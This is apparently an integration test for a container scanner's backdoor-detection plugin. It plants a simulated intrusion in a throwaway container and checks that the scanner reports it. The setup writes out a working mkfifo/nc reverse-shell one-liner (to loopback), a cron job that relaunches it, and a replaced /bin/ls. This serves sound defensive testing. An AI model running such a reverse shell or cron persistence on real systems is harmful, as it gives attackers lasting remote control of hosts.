import { createHash } from 'node:crypto'
import { readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import type { AddressInfo, Server } from 'node:net'
import { join } from 'node:path'
import type { Report } from '@veinmind/report'
import { removeTemporary, requireTool, startDistribution, startDockerd, temporaryFolder } from '@veinmind/services'
import type { Distribution, Dockerd } from '@veinmind/services'
import { buildImage, dockerArchive, layer } from '@veinmind/testing'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { runVeinmind } from './run-veinmind.ts'

// What an intruder of a running container left: a shell that is connected to loopback, a job of cron, and another `/bin/ls`.

const LS = '\u007FELF the ls of its package'
let dockerd: Dockerd
let registry: Distribution
let listener: Server
let folder = ''

beforeAll(async () => {
  folder = temporaryFolder('backdoor')
  ;[dockerd, registry] = await Promise.all([startDockerd(), startDistribution()])
  const connected = new Promise<void>((resolve) => {
    listener = createServer(() => resolve()).listen(0, '127.0.0.1')
  })
  writeFileSync(join(folder, 'base.tar'), dockerArchive(await baseImage()))
  await dockerd.docker(['load', '-i', join(folder, 'base.tar')])
  await dockerd.docker(['run', '-d', '--name', 'victim', '--network', 'host', 'base:1', '/bin/sleep', '1000'])
  const { port } = listener.address() as AddressInfo
  const shell = `mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 ${port} > /tmp/f`
  const inside = (script: string, ...flags: readonly string[]) =>
    dockerd.docker(['exec', ...flags, 'victim', '/bin/sh', '-c', script])
  await inside(shell, '-d')
  await connected
  await inside(`mkdir -p /etc/cron.d; echo "*/5 * * * * root ${shell}" > /etc/cron.d/php; echo changed > /bin/ls`)
  await dockerd.docker(['commit', 'victim', `${registry.host}/victim:1`])
  await dockerd.docker(['save', '-o', join(folder, 'victim.tar'), `${registry.host}/victim:1`])
  await dockerd.docker(['push', `${registry.host}/victim:1`])
}, 300_000)

afterAll(async () => {
  listener.close()
  await Promise.all([dockerd.stop(), registry.stop()])
  removeTemporary(folder)
})

/** A system with busybox, and one program that a package owns. */
async function baseImage() {
  const busybox = readFileSync(await requireTool('busybox'))
  const names = ['sh', 'sleep', 'mkdir', 'mkfifo', 'cat', 'nc', 'echo']
  const md5 = createHash('md5').update(LS).digest('hex')
  return buildImage(
    layer({
      'bin/busybox': { content: busybox, mode: 0o755 },
      ...Object.fromEntries(names.map((name) => [`bin/${name}`, { symlink: 'busybox' }])),
      'bin/ls': { content: LS, mode: 0o755 },
      'etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n',
      'etc/os-release': 'ID=debian\nVERSION_ID="12"\n',
      'var/lib/dpkg/status':
        'Package: coreutils\nStatus: install ok installed\nVersion: 9.1-1\nArchitecture: amd64\n\n',
      'var/lib/dpkg/info/coreutils.list': '/.\n/bin\n/bin/ls\n',
      'var/lib/dpkg/info/coreutils.md5sums': `${md5}  bin/ls\n`,
      ...Object.fromEntries(['proc', 'sys', 'dev', 'tmp'].map((name) => [name, { directory: true } as const])),
    }),
    { references: ['base:1'], config: { Env: ['PATH=/bin'], Cmd: ['/bin/sleep', '1000'] } },
  )
}

async function findingsOf(...words: readonly string[]) {
  const { stdout, stderr } = await runVeinmind(['scan', ...words, '--plugins', 'backdoor', '-f', 'json', '-o', '-'], {
    cwd: folder,
    env: { DOCKER_HOST: dockerd.address },
  })
  if (!stdout.startsWith('{')) throw new Error(stderr)
  const { findings } = JSON.parse(stdout) as Report
  return findings.map(({ rule, locations }) => `${rule.id} ${locations[0]?.path ?? locations[0]?.object ?? ''}`)
}

const LEFT = ['BACK-104 /etc/cron.d/php', 'BACK-210 /bin/ls']

test('the container: the files that were left, and the shell that runs', async () => {
  const found = await findingsOf('container', 'victim')
  expect(found).toEqual(expect.arrayContaining([...LEFT, expect.stringMatching(/^BACK-104 processes\[\d+\]$/)]))
})

test('the image, the archive and the registry: the same files', async () => {
  expect(await findingsOf('image', `${registry.host}/victim:1`)).toEqual(expect.arrayContaining(LEFT))
  expect(await findingsOf('image', join(folder, 'victim.tar'))).toEqual(expect.arrayContaining(LEFT))
  expect(await findingsOf('registry', `${registry.host}/victim`, '--plain-http')).toEqual(expect.arrayContaining(LEFT))
})

test('the image that it was made from has nothing', async () => {
  expect(await findingsOf('image', 'base:1')).toEqual([])
})
